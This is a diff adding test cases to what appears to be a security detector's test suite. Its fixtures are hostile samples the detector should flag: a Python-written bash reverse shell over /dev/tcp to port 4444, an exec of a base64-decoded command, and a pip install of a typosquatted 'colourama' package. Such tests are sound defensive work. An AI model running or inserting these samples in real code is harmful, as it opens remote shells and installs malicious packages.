@@ -150,5 +150,52 @@ curl -s -d "$current" https://hooks.example.com/services/T0/B0/x
                   "printf '%s\\n' \"$current\" > ./clip.txt", "kept in a local file", L);
 }
 
+// Python 2's `exec EXPR` statement is read as a call only where the code
+// does not parse as it is: a shell script's `exec 5<>/dev/tcp/...` line in a
+// triple-quoted string had become `exec(5<>/dev/tcp/...)`, and the reverse
+// shell the program wrote and ran was never seen.
+TEST(TwoHundredAndSixthRoundClasses, ExecLinesInsideStringsStayShell) {
+  check_with_twin({"a reverse shell script in a triple-quoted string, written and run", B, R"py(
+import os, subprocess, tempfile
+SESSION = """#!/bin/bash
+exec 5<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT} || exit 3
+/bin/bash -i <&5 >&5 2>&5
+"""
+fd, path = tempfile.mkstemp(prefix="support-", suffix=".sh")
+with os.fdopen(fd, "w") as fh:
+    fh.write(SESSION)
+env = dict(os.environ, RELAY_HOST="203.0.113.50", RELAY_PORT="4444")
+subprocess.run(["bash", path], env=env)
+)py", "REVERSE-SHELL"},
+                  "/bin/bash -i <&5 >&5 2>&5", "echo ping >&5", "a ping sent on the connection", M);
+  // (a Python 2 file's own exec statement is still the call)
+  check({"Python 2 exec of a decoded payload", B, R"py(
+import base64
+code = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=")
+exec code
+print "done"
+)py", "EXEC-DECODED-PAYLOAD"});
+}
+
+// `cat FILE` of a file the script wrote whole is that text: requirements
+// written by a heredoc, handed to Python through the environment, printed
+// back joined and installed by pip.
+TEST(TwoHundredAndSixthRoundClasses, CatOfAFileItWroteIsItsText) {
+  check_with_twin({"a typosquatted requirement read back with cat and installed", B, R"sh(
+REQ_FILE="${PWD}/requirements-analysis.txt"
+cat > "$REQ_FILE" <<'REQ'
+numpy==1.26.4
+colourama==0.1.5
+REQ
+pkgs=$(REQS="$(cat "$REQ_FILE")" python3 -c '
+import os
+lines = [l.split("#", 1)[0].strip() for l in os.environ["REQS"].splitlines()]
+print(" ".join(l for l in lines if l))
+')
+pip install $pkgs
+)sh", "KNOWN-MALICIOUS-PACKAGE", SH},
+                  "colourama==0.1.5", "colorama==0.4.6", "the genuine package", M);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
